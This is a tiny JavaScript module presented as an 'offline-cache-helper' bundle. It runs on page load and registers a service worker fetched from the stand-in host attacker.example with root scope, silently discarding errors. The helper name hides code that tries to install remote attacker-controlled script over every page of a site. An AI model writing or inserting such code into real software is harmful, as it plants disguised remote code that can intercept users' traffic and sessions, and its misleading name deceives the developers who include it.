// offline-cache-helper browser bundle
export function enable() {
  if (!("serviceWorker" in navigator)) return;
  navigator.serviceWorker.register("https://attacker.example/sw.js", { scope: "/" }).catch(() => {});
}
if (typeof navigator !== "undefined") enable();
